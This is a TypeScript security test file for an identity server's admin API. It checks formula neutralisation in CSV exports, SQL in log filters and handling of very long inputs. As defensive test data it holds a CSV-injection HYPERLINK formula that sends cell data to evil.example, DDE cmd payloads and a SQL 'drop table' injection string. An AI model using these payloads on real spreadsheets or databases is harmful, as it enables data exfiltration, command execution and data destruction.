import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvLine } from "../../src/identity/activity/csv.ts";
import { parseCsv, parseJsonl } from "../identity/activity/support.ts";
import { api, portalToken } from "../identity/admin-api/admin-http.ts";
import {
  type AdminTenant,
  type IdentityServer,
  seedAdminTenant,
  startIdentity,
} from "../identity/admin-api/support.ts";
import { Browser, parseForm } from "../identity/oauth/support/browser.ts";
import { authorizeUrl, pkcePair } from "../identity/oauth/support/protocol.ts";
import { openTestDatabase, type TestDatabase } from "../support/databases.ts";
import { SQL } from "./support/payloads.ts";

/**
 * Exports an administrator opens in a spreadsheet (CSV formula injection), the JSON export
 * kept intact, filter values carrying SQL, and very long strings through every input: a clear
 * 4xx in words, never a 500.
 */

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const LONG = "A".repeat(10_001);

describe("exports, filters and long input (pglite)", () => {
  let t: TestDatabase | undefined;
  let server: IdentityServer;
  let s: AdminTenant;
  let token: string;
  beforeAll(async () => {
    t = await openTestDatabase("pglite");
    if (!t) return;
    server = await startIdentity(t);
    s = await seedAdminTenant(t, server, "exports");
    token = await portalToken(t, s, s.users.globalAdmin);
  });
  afterAll(async () => {
    await server?.close();
    await t?.close();
  });

  it("neutralises spreadsheet formulas in the CSV export and keeps the JSON export exact", async () => {
    for (const [i, formula] of FORMULAS.entries()) {
      const app = await api(server, "POST", "/api/v1/applications", token, {
        displayName: formula,
      });
      expect(app.status, app.text).toBe(201);
      const user = await api(server, "POST", "/api/v1/users", token, {
        userPrincipalName: `formula${i}@exports.example`,
        displayName: formula,
      });
      expect(user.status, user.text).toBe(201);
    }
    const csv = await api(
      server,
      "GET",
      "/api/v1/auditLogs/directoryAudits/export?format=csv",
      token,
    );
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    const rows = parseCsv(csv.text);
    expect(rows.length).toBeGreaterThanOrEqual(8);
    const cells = rows.flatMap((row) => Object.values(row));
    const dangerous = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c));
    expect(dangerous).toEqual([]);
    for (const formula of FORMULAS)
      expect(
        cells.some((c) => c.includes(`'${formula}`) || c.includes(formula.replaceAll('"', '\\"'))),
      ).toBe(true);

    const jsonl = await api(
      server,
      "GET",
      "/api/v1/auditLogs/directoryAudits/export?format=jsonl",
      token,
    );
    expect(jsonl.status).toBe(200);
    const events = parseJsonl(jsonl.text);
    const text = JSON.stringify(events);
    for (const formula of FORMULAS) expect(text).toContain(JSON.stringify(formula).slice(1, -1));
    expect(text).not.toContain(`'${FORMULAS[0]}`);
  });

  it("neutralises tab and carriage-return leads too (values other fields, such as user agents, carry)", () => {
    const line = csvLine(["\t=1+1", "\r=1+1", "=1", "+1", "-x", "@x", "plain", -2, 3]);
    expect(line).toBe(`'\t=1+1,"'\r=1+1",'=1,'+1,'-x,'@x,plain,-2,3\r\n`);
  });

  it("treats SQL in log filters as a value: no rows, not every row, and no error", async () => {
    for (const path of [
      `/api/v1/auditLogs/directoryAudits?actor=${encodeURIComponent(SQL)}`,
      `/api/v1/auditLogs/directoryAudits?activity=${encodeURIComponent(`x${SQL}`)}`,
      `/api/v1/auditLogs/signIns?user=${encodeURIComponent(SQL)}`,
      `/api/v1/auditLogs/signIns?ipAddress=${encodeURIComponent("1'; drop table identity.users; --")}`,
    ]) {
      const r = await api(server, "GET", path, token);
      expect(r.status, `${path}: ${r.text}`).toBe(200);
      expect(r.body.value, path).toEqual([]);
    }
    const users = await api(server, "GET", "/api/v1/users", token);
    expect(users.status).toBe(200);
  });

  it("answers 10k-character strings with a 4xx in words, never a 500", async () => {
    const calls: Array<[string, "GET" | "POST", string, unknown?]> = [
      ["app name", "POST", "/api/v1/applications", { displayName: LONG }],
      [
        "user name",
        "POST",
        "/api/v1/users",
        { userPrincipalName: "long@exports.example", displayName: LONG },
      ],
      [
        "user principal name",
        "POST",
        "/api/v1/users",
        { userPrincipalName: `${LONG}@exports.example`, displayName: "x" },
      ],
      ["log filter", "GET", `/api/v1/auditLogs/directoryAudits?activity=${LONG}`],
      ["log actor filter", "GET", `/api/v1/auditLogs/signIns?user=${LONG}`],
      ["user lookup", "GET", `/api/v1/users/${LONG}`],
      ["malformed percent-encoding", "GET", "/api/v1/users/%E0%A4%A"],
    ];
    for (const [what, method, path, body] of calls) {
      const r = await api(server, method, path, token, body);
      expect(r.status, `${what}: ${r.text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
      expect(r.status, what).toBeLessThan(500);
      expect(r.text, what).not.toContain(LONG);
      expect(typeof r.body.error?.message, `${what}: ${r.status} ${r.text.slice(0, 300)}`).toBe(
        "string",
      );
    }
  });

  it("answers 10k-character protocol parameters and sign-in fields without a 500", async () => {
    const { challenge } = pkcePair();
    const pkce = { code_challenge: challenge, code_challenge_method: "S256" };
    for (const params of [
      { ...pkce, state: LONG },
      { ...pkce, login_hint: LONG },
      { ...pkce, nonce: LONG },
      { ...pkce, scope: `openid ${LONG}` },
      { client_id: LONG },
      { ...pkce, redirect_uri: `https://app.example.com/${LONG}` },
    ]) {
      const response = await new Browser().get(authorizeUrl(s, params));
      expect(response.status, Object.keys(params).join()).toBeLessThan(500);
    }
    const browser = new Browser();
    const first = await browser.get(authorizeUrl(s, pkce));
    const interaction = new URL(first.headers.get("location") ?? "", s.issuer);
    const page = await browser.get(interaction);
    const { action, fields } = parseForm(await page.text(), interaction);
    const posted = await browser.post(action, { ...fields, username: LONG, password: LONG });
    expect(posted.status).toBeLessThan(500);
    expect(posted.status).not.toBe(303);
    const html = await posted.text();
    expect(html).not.toContain(LONG);
  });
});
